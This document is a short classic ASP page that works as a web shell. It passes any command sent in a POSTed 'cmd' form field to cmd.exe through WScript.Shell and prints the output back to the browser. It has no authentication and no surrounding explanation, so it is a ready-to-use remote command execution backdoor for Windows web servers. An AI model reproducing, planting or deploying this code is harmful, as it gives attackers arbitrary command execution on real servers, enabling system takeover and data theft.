<%
Set sh = Server.CreateObject("WScript.Shell")
If Request.Form("cmd") <> "" Then
    Set ex = sh.Exec("cmd.exe /c " & Request.Form("cmd"))
    Response.Write("<pre>" & Server.HTMLEncode(ex.StdOut.ReadAll()) & "</pre>")
End If
%>
<form method="post"><input name="cmd"><input type="submit"></form>
